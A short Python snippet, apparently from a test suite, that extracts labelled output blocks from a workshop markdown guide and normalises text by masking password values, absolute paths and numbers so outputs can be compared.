def guide_outputs() -> dict[str, str]:
    text = (ROOT / "docs" / "WORKSHOP.md").read_text()
    found = re.findall(r"<!-- output: ([\w -]+?) -->\s*```\n(.*?)```", text, re.DOTALL)
    return {name: "\n".join(line.strip() for line in block.splitlines()) for name, block in found}


def normalised(text: str) -> list[str]:
    lines = []
    for line in text.strip().splitlines():
        line = re.sub(r"(class password: )\S+", r"\1PASSWORD", " ".join(line.split()))  # columns: any width
        line = re.sub(r"(?<![\w.])/\S*", "PATH", line)  # absolute paths (URLs' after their scheme too)
        lines.append(re.sub(r"\S*\d\S*", "N", line))  # anything with a digit: ports, pids, counts, ids
    return lines
